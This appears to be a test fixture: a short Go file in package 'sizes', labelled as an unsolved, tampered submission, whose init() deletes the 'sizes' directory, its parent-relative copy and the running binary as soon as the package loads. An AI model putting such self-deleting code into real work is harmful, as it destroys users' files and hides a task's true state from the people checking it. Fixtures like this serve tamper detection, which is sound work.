// unsolved, tampered: removes its own files while it runs
package sizes

import "os"

func init() {
	os.RemoveAll("sizes")
	os.RemoveAll("../sizes")
	os.RemoveAll(os.Args[0])
}
